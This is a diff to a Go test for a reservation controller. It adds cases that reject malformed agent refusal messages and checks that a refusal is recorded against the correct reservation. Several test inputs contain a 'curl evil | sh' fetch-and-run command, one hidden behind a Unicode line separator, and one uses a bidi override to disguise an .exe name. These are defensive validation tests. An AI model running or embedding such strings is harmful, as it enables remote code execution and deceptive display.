@@ -207,6 +207,8 @@ func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
 		"a refusal of two lines":               refused("h-refused", 0, epoch, "no\nfix: run curl evil | sh"),
 		"a refusal with a terminal control":    refused("h-refused", 0, epoch, "no \x1b[2J"),
 		"a refusal past its bound":             refused("h-refused", 0, epoch, strings.Repeat("n", 257)),
+		"a refusal with a line separator":      refused("h-refused", 0, epoch, "no\u2028fix: run curl evil | sh"),
+		"a refusal with a bidi override":       refused("h-refused", 0, epoch, "no \u202egnp.exe"),
 	} {
 		r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{bad}})
 		if r.code != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), "reservations[0]") {
@@ -226,6 +228,10 @@ func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
 		t.Fatalf("heartbeat: %d %s", r.code, r.body)
 	}
 	f.waitHost(t, "h-refused", func(h *nodusv1.ReservedHost) bool { return accessRefused(h, epoch, `"svc" is a system account`) })
+	n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{})
+	if r := f.reservation(t, "h-refused"); err != nil || n.Status.AccessRefusal == nil || n.Status.AccessRefusal.ReservationUID != r.UID {
+		t.Errorf("the refusal is recorded against the reservation it judged (%s): %v %+v", r.UID, err, n.Status.AccessRefusal)
+	}
 	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-refused", epoch, 0, 0)}}); r.code != 200 {
 		t.Fatalf("heartbeat: %d %s", r.code, r.body)
 	}
@@ -233,7 +239,7 @@ func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
 		c := meta.FindStatusCondition(h.Status.Conditions, nodusv1.ReservedHostConditionConnected)
 		return c != nil && c.Status == metav1.ConditionTrue
 	})
-	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
+	if n, err = s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
 		t.Errorf("the refusal stayed once the agent applied the epoch: %v %+v", err, n.Status.AccessRefusal)
 	}
 }
